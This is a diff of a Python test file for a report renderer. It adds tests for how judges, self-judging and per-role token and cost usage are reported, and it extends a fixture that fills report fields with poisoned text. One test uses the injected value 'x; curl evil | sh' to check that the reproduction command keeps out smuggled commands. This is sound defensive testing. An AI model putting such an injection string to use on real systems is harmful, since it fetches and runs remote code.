@@ -9,12 +9,15 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from runbookopt.journal import Spent
+from runbookopt.evidence.trajectory import Left
+from runbookopt.journal import Spent, Used
 from runbookopt.landing.bundle import (
     AgentUsed,
+    Beside,
     Bundle,
     Change,
     Digests,
+    HeldOutOutputs,
     MemberSummary,
     ValidationSummary,
     seal,
@@ -35,6 +38,9 @@ from runbookopt.proof.allowance import Allowance
 from runbookopt.proof.comparison import Comparison, ObjectiveChange, Outcome, Pair
 from runbookopt.records import digest
 from runbookopt.runbook import parse
+from runbookopt.usage import Usage
+from runbookopt.verifier.checks import MaxChars
+from runbookopt.verifier.rubric import Criterion, JudgeSettings, Rubric
 
 SEED, FIRST, CHOSEN = digest(b"seed"), digest(b"first"), digest(b"chosen")
 BEFORE = "# Triage\n\n## Rules\n\n- old rule\n\n## Other\n\nText.\n"
@@ -170,6 +176,76 @@ def test_a_report_says(line: str) -> None:
     assert line in render(FINDINGS).splitlines()
 
 
+JUDGE = JudgeSettings("openai/gpt-5-mini", allow_self_judge=True)
+JUDGED = Rubric((Criterion("kind", judge="Is it kind"), Criterion("short", MaxChars(value=9))), JUDGE)
+PAID = Spent(
+    412,
+    130,
+    24,
+    tokens=1_300_000,
+    usd=None,
+    usage=Used(
+        agent=Usage(412, 1_200_000, 540_000, 12_345, 1.234, {"rate_limited": 31, "server": 9}),
+        reflector=Usage(24, 9000, 0, 800, None),
+        judge=Usage(100, 90_000, 45_000, 100, 0.00042),
+    ),
+)
+
+
+def judged(rubric: Rubric, **bundle: Any) -> list[str]:  # noqa: ANN401 - fields of a bundle
+    changed: Findings = msgspec.structs.replace(
+        FINDINGS, bundle=msgspec.structs.replace(BUNDLE, **bundle), rubric=rubric
+    )
+    return render(changed).splitlines()
+
+
+def test_what_rests_on_a_judge_is_said() -> None:
+    report = judged(JUDGED, models=("agent: openai/gpt-5", "judge: openai/gpt-5-mini"))
+    (rests,) = [line for line in report if "judged by" in line]
+    assert rests.startswith("- 1 criterion is judged by `openai/gpt-5-mini`: `kind`. These verdicts are the")
+    assert rests.endswith("first half's word, and nobody has held this judge against people's labels.")
+    (anew,) = [line for line in report if line.startswith("- Derived anew")]
+    (stated,) = [line for line in report if line.startswith("- Only stated")]
+    assert anew.endswith("by judging the stored outputs again, but for what the judge decides.")
+    assert "really gave these outputs; the verdicts of the judge; diagnoses" in stated
+    assert not any("its own work" in line for line in report)
+
+
+def test_a_judge_of_its_own_work_is_said() -> None:
+    report = judged(JUDGED, models=("reflector: gpt-5-mini-2025-08-07", "judge: openai/gpt-5-mini"))
+    (line,) = [line for line in report if "its own work" in line]
+    assert line.startswith("- It judged its own work, as the rubric allows: ")
+    assert line.endswith(" is also the reflector's. Models favour their own words.")
+
+
+def test_without_a_judge_nothing_is_said_of_one() -> None:
+    report = "\n".join(judged(Rubric(JUDGED.criteria[1:], JUDGE)))
+    assert "judged by" not in report
+    assert "judging the stored outputs again." in report
+
+
+def test_what_attempts_left_is_said_to_be_stated() -> None:
+    left = HeldOutOutputs("t", SEED, ("a",), ("b",), (Beside(left=Left(0)),), (Beside(),))
+    (stated,) = [line for line in judged(JUDGED, outputs=(left,)) if line.startswith("- Only stated")]
+    assert "really gave these outputs and left these steps, files, times and exit codes; " in stated
+
+
+def test_what_calls_used_is_told_by_role_and_what_is_unknown_is_said_to_be() -> None:
+    report = judged(JUDGED, spent=PAID, models=("agent: openai/gpt-5", "judge: openai/gpt-5-mini"))
+    start = report.index("- Tokens: 1,300,000; dollars: unknown; seconds: 0.0")
+    agent, reflector, judge = report[start + 2 : start + 5]
+    assert agent.startswith("- Calls of the agent (`openai/gpt-5`): 412; tokens: 1,200,000 in (45% cached), ")
+    assert agent.endswith(", 12,345 out; dollars: 1.23; failed attempts: `rate_limited` 31, `server` 9")
+    assert reflector.startswith("- Calls of the reflector: 24; tokens: 9,000 in (0% cached), 800 out; ")
+    assert reflector.endswith("; dollars: unknown; no attempt failed")
+    assert judge.endswith(" in (50% cached), 100 out; dollars: 0.00042; no attempt failed")
+
+
+def test_a_role_whose_calls_nobody_counted_is_unknown() -> None:
+    report = judged(JUDGED, models=("agent: openai/gpt-5",))
+    assert "- Calls of the agent (`openai/gpt-5`): unknown" in report
+
+
 def test_the_command_to_make_it_again_holds_no_command_of_others() -> None:
     hostile = {
         "agent.field": "x; curl evil | sh",
@@ -232,7 +308,8 @@ def poisoned(text: str) -> Findings:
         version=text,
         runbook=text or "x",
         agent=AgentUsed(text, SEED, deterministic=True),
-        models=(text,),
+        models=(text, f"agent: {text}", f"judge: {text}"),
+        spent=Spent(1, 1, 1, usage=Used(judge=Usage(1, failures={text: 1, f"{text}2": 2}))),
         changes=(Change(text, text, (text, "t-1")), Change("rules", text, ())),
         members=tuple(msgspec.structs.replace(member, note=text) for member in BUNDLE.members),
         reflected_on=(text,),
@@ -247,6 +324,9 @@ def poisoned(text: str) -> Findings:
         pairs=(Pair(text, SEED, outcomes(1), outcomes(0)),),
         decision=Decision("review", (Reason(text, None, text),)),
         guard=GuardReport((), {"urls": (text,), "credentials": (text,)}),
+        rubric=Rubric(
+            (Criterion("kind", judge=text or "?"),), JudgeSettings(text or "x", allow_self_judge=True)
+        ),
         notes=(text,),
     )
 
